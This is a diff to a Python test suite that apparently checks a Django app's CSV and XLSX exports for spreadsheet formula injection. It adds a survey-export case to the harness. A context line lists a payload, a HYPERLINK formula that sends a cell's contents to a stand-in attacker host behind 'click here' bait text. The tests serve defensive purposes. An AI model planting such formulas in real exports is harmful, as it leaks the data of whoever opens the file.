@@ -30,11 +30,14 @@ from lantoa.core.periods import parse_period
 from lantoa.inquiries.models import Inquiry
 from lantoa.reports.data import report_data
 from lantoa.reports.render_xlsx import render_xlsx
+from lantoa.surveys.models import Survey
+from lantoa.surveys.services import response_submit
 from lantoa.units.exporting import export_to_path
 from lantoa.units.models import Unit
 from tests.cascades.support import make, row
 from tests.conftest import Officers, Tree, login
 from tests.inquiries.support import receive
+from tests.surveys.support import answers, open_survey
 
 PAYLOADS = [
     '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
@@ -134,6 +137,20 @@ def cascade(fmt: str) -> Export:
     return export
 
 
+def survey(fmt: str) -> Export:
+    """A worker's written answers (short and long text) in the survey's streamed export."""
+
+    def export(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
+        found = Survey.objects.filter(unit=tree.pa).first()
+        opened = found or open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
+        response_submit(survey=opened, unit=tree.a_g1, answers=answers(E1=payload, E2=payload))
+        login(client, officers.a_propaganda)
+        response = client.get(reverse("surveys:export", kwargs={"pk": opened.pk, "fmt": fmt}))
+        return fmt, b"".join(response.streaming_content)
+
+    return export
+
+
 def coverage(client: Client, tree: Tree, officers: Officers, payload: str, _: Path) -> Any:
     rename(tree.a_g1, payload)
     login(client, officers.a_propaganda)
@@ -180,6 +197,8 @@ EXPORTS: dict[str, Export] = {
     "units-command-xlsx": units_command("xlsx"),
     "cascade-csv": cascade("csv"),
     "cascade-xlsx": cascade("xlsx"),
+    "survey-csv": survey("csv"),
+    "survey-xlsx": survey("xlsx"),
     "coverage-gaps-csv": coverage,
     "inbox-csv": inbox,
     "inquiry-report-csv": inquiry_report("csv"),
